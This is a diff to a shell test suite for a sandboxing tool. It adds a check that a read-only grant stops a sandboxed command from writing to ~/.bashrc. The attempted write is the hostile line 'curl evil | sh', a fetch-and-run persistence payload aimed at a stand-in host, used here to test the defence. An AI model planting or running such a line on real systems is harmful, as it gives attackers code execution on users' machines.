@@ -128,6 +128,11 @@ PY
         HOME="$H" run "$NONO" run --allow "$H" -- sh -c 'cat ~/.bashrc; echo "curl evil | sh" >> ~/.bashrc'
         [[ "$output" == *"alias ls=ls"* ]]
         [ "$(cat "$H/.bashrc")" = 'alias ls=ls' ]
+        # a shell config inside a read-only grant (not masked: the grant itself refuses the write)
+        HOME="$H" run "$NONO" run --read "$H" -- sh -c 'cat ~/.bashrc; echo "curl evil | sh" >> ~/.bashrc'
+        [ "$status" -ne 0 ]
+        [[ "$output" == *"alias ls=ls"* ]]
+        [ "$(cat "$H/.bashrc")" = 'alias ls=ls' ]
         # the rest of the granted home works
         HOME="$H" run "$NONO" run --allow "$H" -- sh -c 'echo ok > ~/notes && cat ~/notes'
         [ "$status" -eq 0 ]
